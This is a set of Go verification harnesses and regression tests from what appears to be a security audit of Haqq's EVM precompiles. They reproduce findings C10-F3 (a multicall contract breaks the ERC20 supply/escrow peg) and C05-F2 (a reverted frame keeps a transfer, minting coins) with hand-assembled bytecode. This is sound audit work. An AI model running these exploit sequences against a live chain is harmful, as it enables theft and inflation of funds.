	"github.com/ethereum/go-ethereum/core/vm"

	"github.com/ethereum/go-ethereum/accounts/abi"

	cmn "github.com/haqq-network/haqq/precompiles/common"
	stakingkeeper "github.com/haqq-network/haqq/x/staking/keeper"
	"github.com/haqq-network/haqq/x/evm/statedb"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override github.com/cosmos/cosmos-sdk/x/distribution/keeper.NewMsgServerImpl -> c02NewMsgServer
//verif:override (github.com/cosmos/cosmos-sdk/x/distribution/keeper.Keeper).WithdrawDelegationRewards -> c02WithdrawDelegationRewards
//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Keeper).GetDelegatorValidators -> c02GetDelegatorValidators
//verif:override (github.com/cosmos/cosmos-sdk/x/distribution/keeper.Keeper).GetDelegatorWithdrawAddr -> c02GetWithdrawAddr
//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Keeper).BondDenom -> c02BondDenom
//verif:override (github.com/haqq-network/haqq/precompiles/distribution.Precompile).EmitClaimRewardsEvent -> c02EmitClaim
//verif:override (github.com/haqq-network/haqq/precompiles/distribution.Precompile).EmitWithdrawDelegatorRewardsEvent -> c02EmitWithdraw
//verif:override (github.com/haqq-network/haqq/precompiles/distribution.Precompile).EmitWithdrawValidatorCommissionEvent -> c02EmitCommission
//verif:override (github.com/haqq-network/haqq/precompiles/distribution.Precompile).EmitSetWithdrawAddressEvent -> c02EmitSetWithdraw

var (
	c02Origin   = common.HexToAddress("0x1000000000000000000000000000000000000001") // the transaction signer
	c02Contract = common.HexToAddress("0x2000000000000000000000000000000000000002") // a calling contract
	c02Other    = common.HexToAddress("0x3000000000000000000000000000000000000003") // a third party / separate withdraw address
	c02Pool     = common.HexToAddress("0x4000000000000000000000000000000000000004") // distribution module account
	c02Addrs    = []common.Address{c02Origin, c02Contract, c02Other, c02Pool}
	c02Val      = sdk.ValAddress([]byte{9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9}).String()
)

type c02Bank struct {
	bal    map[common.Address]sdkmath.Int
	supply sdkmath.Int
}

func (l *c02Bank) get(a common.Address) sdkmath.Int {
	if v, ok := l.bal[a]; ok {
		return v
	}
	return sdk.ZeroInt()
}
func (l *c02Bank) GetAccount(ctx sdk.Context, addr common.Address) *statedb.Account {
	v, ok := l.bal[addr]
	if !ok {
		return nil
	}
	return &statedb.Account{Balance: v.BigInt()}
}
func (l *c02Bank) GetState(ctx sdk.Context, addr common.Address, key common.Hash) common.Hash { return common.Hash{} }
func (l *c02Bank) GetCode(ctx sdk.Context, codeHash common.Hash) []byte                        { return nil }
func (l *c02Bank) ForEachStorage(ctx sdk.Context, addr common.Address, cb func(key, value common.Hash) bool) {
}
func (l *c02Bank) SetAccount(ctx sdk.Context, addr common.Address, account statedb.Account) error {
	nb := sdkmath.NewIntFromBigInt(account.Balance)
	l.supply = l.supply.Add(nb.Sub(l.get(addr)))
	l.bal[addr] = nb
	return nil
}
func (l *c02Bank) SetState(ctx sdk.Context, addr common.Address, key common.Hash, value []byte) {}
func (l *c02Bank) SetCode(ctx sdk.Context, codeHash []byte, code []byte)                        {}
func (l *c02Bank) DeleteAccount(ctx sdk.Context, addr common.Address) error                     { return nil }

var c02 struct {
	bank     *c02Bank
	withdraw map[common.Address]common.Address // withdraw address per beneficiary
	due      sdkmath.Int                       // outstanding rewards / commission of the named account
	paid     int
	acted    []string // bech32 account the module was asked to act for, per call
	journal  *zz.Journal // when set, the Cosmos-side state above follows the context's store branching (see zz.Journal)
	run      struct {
		ctx    sdk.Context
		db     *statedb.StateDB
		method *abi.Method
		args   []interface{}
	}
}

func c02Pay(ctx sdk.Context, beneficiary sdk.AccAddress) (sdk.Coins, error) {
	if c02.journal != nil {
		c02.journal.Sync(ctx)
	}
	who := common.BytesToAddress(beneficiary.Bytes())
	to, ok := c02.withdraw[who]
	if !ok {
		to = who
	}
	if c02.bank.get(c02Pool).LT(c02.due) {
		return nil, errors.New("pool underfunded")
	}
	due := c02.due
	debit := func() { c02.bank.bal[c02Pool] = c02.bank.get(c02Pool).Sub(due) }
	credit := func() {
		c02.bank.bal[to] = c02.bank.get(to).Add(due)
		c02.paid++
		c02.acted = append(c02.acted, beneficiary.String())
	}
	if c02.journal != nil { // two store writes: the gas meter may run out at either
		c02.journal.Write(ctx, debit)
		c02.journal.Write(ctx, credit)
	} else {
		debit()
		credit()
	}
	return sdk.NewCoins(sdk.NewCoin("aISLM", c02.due)), nil
}

// the distribution module's own view of withdraw addresses (defaults to the account itself)
func c02GetWithdrawAddr(k distributionkeeper.Keeper, ctx sdk.Context, delAddr sdk.AccAddress) sdk.AccAddress {
	if to, ok := c02.withdraw[common.BytesToAddress(delAddr.Bytes())]; ok {
		return sdk.AccAddress(to.Bytes())
	}
	return delAddr
}

type c02Srv struct{}

func (c02Srv) SetWithdrawAddress(ctx context.Context, m *distributiontypes.MsgSetWithdrawAddress) (*distributiontypes.MsgSetWithdrawAddressResponse, error) {
	set := func() {
		c02.acted = append(c02.acted, m.DelegatorAddress)
		c02.withdraw[common.BytesToAddress(sdk.MustAccAddressFromBech32(m.DelegatorAddress).Bytes())] = common.BytesToAddress(sdk.MustAccAddressFromBech32(m.WithdrawAddress).Bytes())
	}
	if c02.journal != nil {
		c02.journal.Write(sdk.UnwrapSDKContext(ctx), set)
	} else {
		set()
	}
	return &distributiontypes.MsgSetWithdrawAddressResponse{}, nil
}
func (c02Srv) WithdrawDelegatorReward(ctx context.Context, m *distributiontypes.MsgWithdrawDelegatorReward) (*distributiontypes.MsgWithdrawDelegatorRewardResponse, error) {
	coins, err := c02Pay(sdk.UnwrapSDKContext(ctx), sdk.MustAccAddressFromBech32(m.DelegatorAddress))
	if err != nil {
		return nil, err
	}
	return &distributiontypes.MsgWithdrawDelegatorRewardResponse{Amount: coins}, nil
}
func (c02Srv) WithdrawValidatorCommission(ctx context.Context, m *distributiontypes.MsgWithdrawValidatorCommission) (*distributiontypes.MsgWithdrawValidatorCommissionResponse, error) {
	va, err := sdk.ValAddressFromBech32(m.ValidatorAddress)
	if err != nil {
		return nil, err
	}
	coins, err := c02Pay(sdk.UnwrapSDKContext(ctx), sdk.AccAddress(va))
	if err != nil {
		return nil, err
	}
	return &distributiontypes.MsgWithdrawValidatorCommissionResponse{Amount: coins}, nil
}
func (c02Srv) FundCommunityPool(context.Context, *distributiontypes.MsgFundCommunityPool) (*distributiontypes.MsgFundCommunityPoolResponse, error) {
	panic("not used")
}
func (c02Srv) UpdateParams(context.Context, *distributiontypes.MsgUpdateParams) (*distributiontypes.MsgUpdateParamsResponse, error) {
	panic("not used")
}
func (c02Srv) CommunityPoolSpend(context.Context, *distributiontypes.MsgCommunityPoolSpend) (*distributiontypes.MsgCommunityPoolSpendResponse, error) {
	panic("not used")
}

func c02NewMsgServer(k distributionkeeper.Keeper) distributiontypes.MsgServer { return c02Srv{} }
func c02WithdrawDelegationRewards(k distributionkeeper.Keeper, ctx sdk.Context, delAddr sdk.AccAddress, valAddr sdk.ValAddress) (sdk.Coins, error) {
	return c02Pay(ctx, delAddr)
}
func c02GetDelegatorValidators(k sdkstakingkeeper.Keeper, ctx sdk.Context, delegatorAddr sdk.AccAddress, maxRetrieve uint32) stakingtypes.Validators {
	return stakingtypes.Validators{{OperatorAddress: c02Val}}
}
func c02BondDenom(k sdkstakingkeeper.Keeper, ctx sdk.Context) string { return "aISLM" }
func c02EmitClaim(p Precompile, ctx sdk.Context, stateDB vm.StateDB, delegatorAddress common.Address, totalCoins sdk.Coins) error {
	return nil
}
func c02EmitWithdraw(p Precompile, ctx sdk.Context, stateDB vm.StateDB, delegatorAddress common.Address, validatorAddress string, coins sdk.Coins) error {
	return nil
}
func c02EmitCommission(p Precompile, ctx sdk.Context, stateDB vm.StateDB, validatorAddress string, coins sdk.Coins) error {
	return nil
}

func c02EmitSetWithdraw(p Precompile, ctx sdk.Context, stateDB vm.StateDB, caller common.Address, withdrawerAddress string) error {
	return nil
}

// VerifC04_Distribution: a successful state-changing distribution call acts only for the transaction signer or the immediate
// caller (C04), and the module is asked exactly once, for exactly the named account (C16); a refused call reaches nothing.
func VerifC04_Distribution() {
	env := zz.NewEnv([]string{"distribution"}, nil)
	ctx := env.Ctx.WithBlockTime(time.Unix(1700000000, 0))
	p := Precompile{Precompile: cmn.Precompile{ApprovalExpiration: time.Hour}, stakingKeeper: stakingkeeper.Keeper{Keeper: &sdkstakingkeeper.Keeper{}}}
	bank := &c02Bank{bal: map[common.Address]sdkmath.Int{}, supply: sdk.ZeroInt()}
	c02.bank, c02.withdraw, c02.paid, c02.acted = bank, map[common.Address]common.Address{}, 0, nil
	for _, a := range c02Addrs {
		bank.bal[a] = zz.AnyAmount("bal."+c02Tag(a), 100)
	}
	c02.due = zz.AnyAmount("due", 100)
	zz.Assume(c02.due.IsPositive())
	db := statedb.New(ctx, bank, statedb.NewEmptyTxConfig(common.Hash{}))
	db.GetBalance(c02Origin)
	caller := []common.Address{c02Origin, c02Contract}[zz.Choose("caller", 2)]
	if caller == c02Contract {
		db.GetCodeHash(c02Contract)
	}
	named := []common.Address{c02Origin, c02Contract, c02Other}[zz.Choose("named", 3)]
	contract := &vm.Contract{CallerAddress: caller}
	method := zz.Choose("method", 4)
	newWithdraw := c02Other
	var err error
	switch method {
	case 0:
		_, err = p.WithdrawDelegatorRewards(ctx, c02Origin, contract, db, c02Method, []interface{}{named, c02Val})
	case 1:
		_, err = p.ClaimRewards(ctx, c02Origin, contract, db, c02Method, []interface{}{named, uint32(1)})
	case 2:
		_, err = p.WithdrawValidatorCommission(ctx, c02Origin, contract, db, c02Method, []interface{}{sdk.ValAddress(named.Bytes()).String()})
	default:
		// the withdraw address given: a third party or the delegator itself (= reset to the default); before the call the
		// delegator may already have pointed its rewards elsewhere
		if zz.AnyBool("alreadyRedirected") {
			c02.withdraw[named] = c02Pool
		}
		if zz.AnyBool("resetToSelf") {
			newWithdraw = named
		}
		_, err = p.SetWithdrawAddress(ctx, c02Origin, contract, db, c02Method, []interface{}{named, sdk.AccAddress(newWithdraw.Bytes()).String()})
	}
	if err != nil {
		zz.Assert(len(c02.acted) == 0, "a refused call does not reach the distribution module")
		zz.Reach("refused")
		return
	}
	zz.Reach("accepted")
	zz.Assert(named == c02Origin || named == caller, "the account acted for is the transaction signer or the calling contract")
	zz.Assert(len(c02.acted) == 1, "the distribution module is asked exactly once")
	zz.Assert(c02.acted[0] == sdk.AccAddress(named.Bytes()).String(), "the module acts for exactly the named account")
	if method == 3 {
		zz.Assert(c02.withdraw[named] == newWithdraw, "the withdraw address recorded is the one given, exactly as the native message would record it")
	}
	zz.Reach("end")
}

func c02Tag(a common.Address) string { return string(rune('A' + int(a[0]>>4) - 1)) }

var c02Method = &abi.Method{Name: "m"}

// VerifC02_DistributionMirror: after the final Commit the supply is unchanged, the withdraw address of the named account
// received exactly the outstanding amount, the pool paid it, and nobody else's balance moved except by the EVM transfers.
func VerifC02_DistributionMirror() {
	env := zz.NewEnv([]string{"distribution"}, nil)
	ctx := env.Ctx.WithBlockTime(time.Unix(1700000000, 0))
	p := Precompile{Precompile: cmn.Precompile{ApprovalExpiration: time.Hour}, stakingKeeper: stakingkeeper.Keeper{Keeper: &sdkstakingkeeper.Keeper{}}}
	bank := &c02Bank{bal: map[common.Address]sdkmath.Int{}, supply: sdk.ZeroInt()}
	c02.bank, c02.withdraw, c02.paid = bank, map[common.Address]common.Address{}, 0
	exp := map[common.Address]sdkmath.Int{}
	for _, a := range c02Addrs {
		b := zz.AnyAmount("bal."+c02Tag(a), 100)
		bank.bal[a], exp[a] = b, b
		bank.supply = bank.supply.Add(b)
	}
	supply0 := bank.supply
	c02.due = zz.AnyAmount("due", 100)
	zz.Assume(c02.due.IsPositive()) // with nothing outstanding the module returns no coins (empty answer: outside this harness)
	db := statedb.New(ctx, bank, statedb.NewEmptyTxConfig(common.Hash{}))
	touched := map[common.Address]bool{} // accounts with a balance change in the EVM journal
	transfer := func(tag string, from, to common.Address) bool {
		v := zz.AnyAmount(tag, 64)
		if db.GetBalance(from).Cmp(v.BigInt()) < 0 {
			return false
		}
		db.SubBalance(from, v.BigInt())
		db.AddBalance(to, v.BigInt())
		exp[from], exp[to] = exp[from].Sub(v), exp[to].Add(v)
		if v.IsPositive() {
			touched[from], touched[to] = true, true
		}
		return true
	}
	db.GetBalance(c02Origin) // evm.Call -> Transfer(signer, to, value) loads the signer's account even for a zero value

	viaContract := zz.AnyBool("viaContract")
	caller := c02Origin
	if viaContract {
		caller = c02Contract
		db.GetCodeHash(c02Contract) // the EVM fetched the code of the contract it runs: its account is cached
		if zz.AnyBool("withValue") {
			if !transfer("value", c02Origin, c02Contract) {
				zz.Reach("cannot-pay-value")
				return
			}
		}
	}
	named := c02Origin
	if zz.AnyBool("namedIsCaller") {
		named = caller
	}
	separate := zz.AnyBool("separateWithdrawAddress")
	beneficiary := named
	if separate {
		c02.withdraw[named] = c02Other
		beneficiary = c02Other
	}
	method := zz.Choose("method", 3)
	if err := db.Commit(); err != nil { // Precompile.Run flushes first
		panic(err)
	}
	snap := db.Snapshot()
	contract := &vm.Contract{CallerAddress: caller}
	var err error
	switch method {
	case 0:
		_, err = p.WithdrawDelegatorRewards(ctx, c02Origin, contract, db, c02Method, []interface{}{named, c02Val})
	case 1:
		_, err = p.ClaimRewards(ctx, c02Origin, contract, db, c02Method, []interface{}{named, uint32(1)})
	default:
		_, err = p.WithdrawValidatorCommission(ctx, c02Origin, contract, db, c02Method, []interface{}{sdk.ValAddress(named.Bytes()).String()})
	}
	if err != nil {
		zz.Assert(c02.paid == 0, "a refused call pays nothing")
		db.RevertToSnapshot(snap)
		zz.Reach("refused")
	} else {
		zz.Reach("paid")
		zz.Assert(c02.paid == 1, "exactly one payout")
		exp[c02Pool], exp[beneficiary] = exp[c02Pool].Sub(c02.due), exp[beneficiary].Add(c02.due)
	}
	if viaContract && zz.AnyBool("contractPaysThirdPartyAfter") {
		transfer("post", c02Contract, c02Other)
	}
	if err := db.Commit(); err != nil {
		panic(err)
	}
	shape := ""
	if err == nil {
		mirrored := method == 0 && caller == named
		switch {
		case mirrored && separate:
			shape = " [shape C02-F2 rewards mirrored to the caller although paid to a separate withdraw address]"
		case !mirrored && touched[beneficiary]:
			shape = " [shape C02-F3 unmirrored payout to an account whose cached balance is written back]"
		}
	}
	zz.ObserveInt("supply", bank.supply)
	zz.Assert(bank.supply.Equal(supply0), "EVM execution leaves the total supply unchanged"+shape)
	for _, a := range c02Addrs {
		zz.ObserveInt("final."+c02Tag(a), bank.get(a))
		zz.Assert(bank.get(a).Equal(exp[a]), "every bank balance = before + received - sent"+shape)
	}
	zz.Reach("end")
}
