package ics20_test

import (
	"encoding/binary"
	"math/big"
	"testing"
	"time"

	"cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/stretchr/testify/require"

	haqqcontracts "github.com/haqq-network/haqq/contracts"
	"github.com/haqq-network/haqq/precompiles/ics20"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	coinomicstypes "github.com/haqq-network/haqq/x/coinomics/types"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// verifMulticallRuntime is the runtime code of a minimal hand-assembled "multicall" contract.
// Its calldata is a sequence of records  [20 bytes target][2 bytes big-endian length][call data]
// and it CALLs every record in order (value 0, all remaining gas), bubbling up a revert of any of them.
//
//	00 PUSH1 0            ptr := 0
//	02 JUMPDEST           loop:
//	03 DUP1 CALLDATASIZE GT PUSH1 0a JUMPI STOP      if ptr >= calldatasize -> stop
//	0a JUMPDEST DUP1 CALLDATALOAD                    word := calldata[ptr:ptr+32]
//	0d DUP1 PUSH1 60 SHR                             target := word >> 96
//	11 SWAP1 PUSH1 50 SHR PUSH2 ffff AND             len := (word >> 80) & 0xffff
//	19 DUP1 DUP4 PUSH1 16 ADD PUSH1 0 CALLDATACOPY   mem[0:len] := calldata[ptr+22:ptr+22+len]
//	21 PUSH1 0 PUSH1 0 DUP3 PUSH1 0 PUSH1 0 DUP7 GAS CALL
//	2d PUSH1 3a JUMPI                                ok -> continue
//	30 RETURNDATASIZE PUSH1 0 PUSH1 0 RETURNDATACOPY RETURNDATASIZE PUSH1 0 REVERT
//	3a JUMPDEST SWAP1 POP ADD PUSH1 16 ADD PUSH1 02 JUMP   ptr += 22 + len ; goto loop
var verifMulticallRuntime = common.FromHex(
	"6000" + "5b" + "803611600a5700" +
		"5b8035" + "8060601c" + "9060501c61ffff16" +
		"8083601601600037" +
		"600060008260006000865af1" +
		"603a57" + "3d600060003e3d6000fd" +
		"5b9050016016016002" + "56",
)

// verifMulticallInitCode returns the creation code: copy the runtime to memory and return it.
func verifMulticallInitCode() []byte {
	rt := verifMulticallRuntime
	// PUSH1 len DUP1 PUSH1 0x0b PUSH1 0 CODECOPY PUSH1 0 RETURN  (11 bytes)
	init := []byte{0x60, byte(len(rt)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(init, rt...)
}

func verifRecord(target common.Address, data []byte) []byte {
	out := make([]byte, 0, 22+len(data))
	out = append(out, target.Bytes()...)
	l := make([]byte, 2)
	binary.BigEndian.PutUint16(l, uint16(len(data)))
	out = append(out, l...)
	return append(out, data...)
}

// TestVerifFindingC10F3: a contract that holds the ERC20 representation of a
// registered Cosmos coin (coin-origin token pair) does, inside ONE Ethereum transaction,
//
//  1. token.burn(1)                         (a holder burning its own tokens - always allowed), and then
//  2. ICS20 precompile transfer(coin, N)    (the contract has no coins, so the transfer keeper first converts
//     N of the contract's ERC20 tokens into coins - burning the tokens and releasing N escrowed coins -
//     and then sends the coins over IBC), and then
//  3. token.burn(1) again                   (computed by the outer transaction's stateDB from the token balance and
//     total supply it cached in step 1: before fix 98ffa7e the stale values were written over the conversion's debit:
//     totalSupply=998, balanceOf=998 against 600 escrowed coins - finding C10-F3).
//
// The conversion must debit the ERC20 side by exactly what it releases from the escrow: afterwards the
// ERC20 total supply must still be covered by the coins escrowed in the erc20 module account.
func TestVerifFindingC10F3(t *testing.T) {
	ds := new(PrecompileTestSuite)
	ds.SetT(t)
	ds.suiteIBCTesting = true
	ds.SetupTest()

	app := ds.app
	erc20ABI := haqqcontracts.ERC20MinterBurnerDecimalsContract.ABI
	moduleAcc := authtypes.NewModuleAddress(erc20types.ModuleName)

	const (
		denom   = "acoin"
		initial = int64(1000)
		burnt   = int64(1)
		sent    = int64(400)
	)

	// --- the multicall contract K -------------------------------------------------------------------
	kAddr, err := DeployContract(
		ds.chainA.GetContext(), app, ds.privKey, gasPrice, ds.queryClientEVM,
		evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: verifMulticallInitCode()},
	)
	require.NoError(t, err)
	ds.chainA.NextBlock()
	require.Equal(t, verifMulticallRuntime, app.EvmKeeper.GetCode(
		ds.chainA.GetContext(),
		common.BytesToHash(app.EvmKeeper.GetAccountWithoutBalance(ds.chainA.GetContext(), kAddr).CodeHash),
	))

	// --- a Cosmos coin, registered as coin-origin pair; K receives its ERC20 representation ------------
	ctx := ds.chainA.GetContext()
	coins := sdk.NewCoins(sdk.NewInt64Coin(denom, initial))
	require.NoError(t, app.BankKeeper.MintCoins(ctx, coinomicstypes.ModuleName, coins))
	require.NoError(t, app.BankKeeper.SendCoinsFromModuleToAccount(ctx, coinomicstypes.ModuleName, ds.address.Bytes(), coins))

	pair, err := app.Erc20Keeper.RegisterCoin(ctx, banktypes.Metadata{
		Description: "demo coin",
		Base:        denom,
		DenomUnits: []*banktypes.DenomUnit{
			{Denom: denom, Exponent: 0},
			{Denom: "coin", Exponent: 18},
		},
		Name:    denom,
		Symbol:  "COIN",
		Display: denom,
	})
	require.NoError(t, err)
	require.True(t, pair.IsNativeCoin())
	token := pair.GetERC20Contract()

	_, err = app.Erc20Keeper.ConvertCoin(
		sdk.WrapSDKContext(ctx),
		erc20types.NewMsgConvertCoin(sdk.NewInt64Coin(denom, initial), kAddr, ds.address.Bytes()),
	)
	require.NoError(t, err)
	ds.chainA.NextBlock()

	totalSupply := func() *big.Int {
		res, err := app.Erc20Keeper.CallEVM(ds.chainA.GetContext(), erc20ABI, erc20types.ModuleAddress, token, false, "totalSupply")
		require.NoError(t, err)
		out, err := erc20ABI.Unpack("totalSupply", res.Ret)
		require.NoError(t, err)
		return out[0].(*big.Int)
	}
	escrow := func() *big.Int {
		return app.BankKeeper.GetBalance(ds.chainA.GetContext(), moduleAcc, denom).Amount.BigInt()
	}
	balanceOfK := func() *big.Int {
		return app.Erc20Keeper.BalanceOf(ds.chainA.GetContext(), erc20ABI, token, kAddr)
	}

	require.Equal(t, initial, totalSupply().Int64())
	require.Equal(t, initial, escrow().Int64())
	require.Equal(t, initial, balanceOfK().Int64())

	// --- the tx sender authorizes K to do ICS20 transfers of the coin on the channel --------------------
	ctx = ds.chainA.GetContext()
	exp := ctx.BlockTime().Add(time.Hour)
	require.NoError(t, app.AuthzKeeper.SaveGrant(ctx, kAddr.Bytes(), ds.address.Bytes(),
		&transfertypes.TransferAuthorization{Allocations: []transfertypes.Allocation{{
			SourcePort:    ds.transferPath.EndpointA.ChannelConfig.PortID,
			SourceChannel: ds.transferPath.EndpointA.ChannelID,
			SpendLimit:    sdk.NewCoins(sdk.NewInt64Coin(denom, sent)),
		}}}, &exp))

	// --- ONE Ethereum tx: K.burn(1) ; K -> ICS20.transfer(acoin, 400) ------------------------------------
	burnData, err := erc20ABI.Pack("burn", big.NewInt(burnt))
	require.NoError(t, err)
	transferData, err := ds.precompile.ABI.Pack(
		ics20.TransferMethod,
		ds.transferPath.EndpointA.ChannelConfig.PortID,
		ds.transferPath.EndpointA.ChannelID,
		denom,
		big.NewInt(sent),
		kAddr, // the contract sends its own funds
		ds.chainB.SenderAccount.GetAddress().String(),
		ds.chainB.GetTimeoutHeight(),
		uint64(0),
		"memo",
	)
	require.NoError(t, err)

	input := append(verifRecord(token, burnData), verifRecord(ds.precompile.Address(), transferData)...)
	input = append(input, verifRecord(token, burnData)...)
	msg := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  app.EvmKeeper.ChainID(),
		Nonce:    app.EvmKeeper.GetNonce(ctx, ds.address),
		To:       &kAddr,
		GasLimit: 3_000_000,
		GasPrice: gasPrice,
		Input:    input,
	})
	msg.From = ds.address.Hex()

	res, err := haqqtestutil.DeliverEthTx(app, ds.privKey, msg)
	require.NoError(t, err)
	require.True(t, res.IsOK(), res.Log)
	ethRes, err := evmtypes.DecodeTxResponse(res.Data)
	require.NoError(t, err)
	require.False(t, ethRes.Failed(), "the multicall tx must succeed: %s", ethRes.VmError)
	ds.chainA.NextBlock()

	// the conversion did happen: 400 coins left the erc20 escrow and were sent over IBC
	require.Equal(t, initial-sent, escrow().Int64(), "coins escrowed in the erc20 module account")
	channelEscrow := transfertypes.GetEscrowAddress(
		ds.transferPath.EndpointA.ChannelConfig.PortID, ds.transferPath.EndpointA.ChannelID)
	require.Equal(t, math.NewInt(sent),
		app.BankKeeper.GetBalance(ds.chainA.GetContext(), channelEscrow, denom).Amount, "coins in the IBC channel escrow")

	// ... and the ERC20 side must have been debited by exactly the same amount
	t.Logf("after the tx: totalSupply=%s escrow=%s balanceOf(K)=%s", totalSupply(), escrow(), balanceOfK())
	require.True(t, totalSupply().Cmp(escrow()) <= 0,
		"peg broken: ERC20 total supply %s exceeds the %s coins escrowed in the module account", totalSupply(), escrow())
	require.Equal(t, initial-2*burnt-sent, balanceOfK().Int64(),
		"the contract's ERC20 balance must be debited by the converted amount")
	require.Equal(t, initial-2*burnt-sent, totalSupply().Int64())
}
