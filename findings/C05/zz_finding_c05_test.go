package staking_test

// L2 reproduction of finding C05-F2 / C02-F2 on the full in-process app (real EVM, real precompile, DeliverTx path):
// every stateful precompile starts with stateDB.Commit(), which flushes the cached EVM state of the *current, not yet
// finished* call frames into the stores. If such a frame reverts afterwards and its account has no journal entry outside
// the reverted frame, the final Commit no longer visits the account, so the reverted frame's flushed writes survive:
//   - a storage slot written in the reverted frame stays written,
//   - a value transfer made in the reverted frame stays credited to the recipient while the payer's balance is restored
//     (the payer is dirty in the parent frame) -> native coins are minted.
// Run with tools/run_finding.sh C05. These tests FAIL while the finding is open (they state the property).

import (
	"math/big"
	"testing"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	"github.com/stretchr/testify/require"

	"github.com/haqq-network/haqq/precompiles/authorization"
	"github.com/haqq-network/haqq/precompiles/staking"
	"github.com/haqq-network/haqq/precompiles/testutil/contracts"
	haqqtestutil "github.com/haqq-network/haqq/testutil"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

var findingRecipient = common.HexToAddress("0x00000000000000000000000000000000000dEaD1")

// outer frame (entered by the EOA): call self with the same calldata, ignore the result, stop - it writes nothing itself.
// inner frame: SSTORE(1,1); send 5 wei to findingRecipient; call the staking precompile; REVERT.
func findingRuntime(withValue bool) []byte {
	outer := []byte{
		0x36, 0x60, 0x00, 0x60, 0x00, 0x37, // CALLDATACOPY(0, 0, CALLDATASIZE)
		0x60, 0x00, 0x60, 0x00, 0x36, 0x60, 0x00, 0x60, 0x00, 0x30, 0x5a, 0xf1, // CALL(gas, this, 0, 0, cds, 0, 0)
		0x50, // POP
		0x00, // STOP
	}
	inner := []byte{
		0x5b,                         // JUMPDEST
		0x60, 0x01, 0x60, 0x01, 0x55, // SSTORE(1, 1)
	}
	if withValue {
		inner = append(inner, 0x60, 0x00, 0x60, 0x00, 0x60, 0x00, 0x60, 0x00, 0x60, 0x05, 0x73) // retSize retOff argsSize argsOff value=5 PUSH20
		inner = append(inner, findingRecipient.Bytes()...)
		inner = append(inner, 0x5a, 0xf1, 0x50) // GAS CALL POP
	}
	inner = append(inner,
		0x36, 0x60, 0x00, 0x60, 0x00, 0x37, // CALLDATACOPY(0, 0, CALLDATASIZE)
		0x60, 0x00, 0x60, 0x00, 0x36, 0x60, 0x00, 0x60, 0x00, 0x61, 0x08, 0x00, 0x5a, 0xf1, // CALL(gas, 0x800, 0, 0, cds, 0, 0)
		0x60, 0x00, 0x52, // MSTORE(0, ok)
		0x60, 0x20, 0x60, 0x00, 0xfd, // REVERT(0, 32)
	)
	head := []byte{0x33, 0x30, 0x14, 0x60, 0x00, 0x57} // CALLER ADDRESS EQ PUSH1 <inner> JUMPI
	head[4] = byte(len(head) + len(outer))
	code := append([]byte{}, head...)
	code = append(code, outer...)
	return append(code, inner...)
}

func findingInit(runtime []byte) []byte {
	init := []byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(init, runtime...)
}

func runFinding(t *testing.T, withValue bool) (ds *PrecompileTestSuite, contractAddr common.Address, supplyBefore sdkmath.Int) {
	ds = new(PrecompileTestSuite)
	ds.SetT(t)
	ds.DoSetupTest()
	var err error
	ds.ctx, err = haqqtestutil.CommitAndCreateNewCtx(ds.ctx, ds.app, time.Second, nil)
	require.NoError(t, err)
	runtime := findingRuntime(withValue)
	require.Less(t, len(runtime), 256)
	contractAddr, err = ds.DeployContract(evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: findingInit(runtime)})
	require.NoError(t, err)
	require.NoError(t, haqqtestutil.FundAccount(ds.ctx, ds.app.BankKeeper, sdk.AccAddress(contractAddr.Bytes()), sdk.NewCoins(sdk.NewCoin(ds.bondDenom, sdkmath.NewInt(100)))))
	ds.ctx, err = haqqtestutil.CommitAndCreateNewCtx(ds.ctx, ds.app, time.Second, nil)
	require.NoError(t, err)
	supplyBefore = ds.app.BankKeeper.GetSupply(ds.ctx, ds.bondDenom).Amount

	callArgs := contracts.CallArgs{
		ContractAddr: contractAddr,
		ContractABI:  ds.precompile.ABI,
		PrivKey:      ds.privKey,
		MethodName:   authorization.ApproveMethod,
		Args:         []interface{}{contractAddr, big.NewInt(1e18), []string{staking.DelegateMsg}},
		GasLimit:     3_000_000,
	}
	_, ethRes, err := contracts.Call(ds.ctx, ds.app, callArgs)
	require.NoError(t, err)
	require.False(t, ethRes.Failed(), "the transaction as a whole must succeed: %s", ethRes.VmError)
	return ds, contractAddr, supplyBefore
}

func TestVerifFindingC05_RevertedStorageWriteAfterPrecompile(t *testing.T) {
	ds, contractAddr, _ := runFinding(t, false)
	slot1 := ds.app.EvmKeeper.GetState(ds.ctx, contractAddr, common.BigToHash(big.NewInt(1))).Big()
	require.Zero(t, slot1.Sign(), "a storage slot written inside the reverted frame (before its precompile call) is still written: %s", slot1)
}

func TestVerifFindingC05_RevertedValueTransferAfterPrecompile(t *testing.T) {
	ds, contractAddr, supplyBefore := runFinding(t, true)
	got := ds.app.BankKeeper.GetBalance(ds.ctx, sdk.AccAddress(findingRecipient.Bytes()), ds.bondDenom).Amount
	contractBal := ds.app.BankKeeper.GetBalance(ds.ctx, sdk.AccAddress(contractAddr.Bytes()), ds.bondDenom).Amount
	supplyAfter := ds.app.BankKeeper.GetSupply(ds.ctx, ds.bondDenom).Amount
	t.Logf("recipient=%s contract=%s supply before=%s after=%s", got, contractBal, supplyBefore, supplyAfter)
	require.True(t, got.IsZero(), "the recipient of a value transfer made inside the reverted frame kept %s", got)
}

